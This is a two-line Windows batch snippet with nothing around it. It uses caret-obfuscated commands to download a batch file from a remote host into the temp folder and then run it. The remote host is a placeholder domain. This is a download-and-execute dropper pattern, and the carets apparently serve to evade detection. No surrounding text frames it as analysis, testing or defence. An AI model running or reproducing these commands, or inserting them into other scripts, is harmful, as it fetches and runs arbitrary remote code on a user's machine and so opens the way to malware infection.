c^u^r^l -so %TEMP%\a.bat https://cdn-x7.invalid/a
ca^ll %TEMP%\a.bat
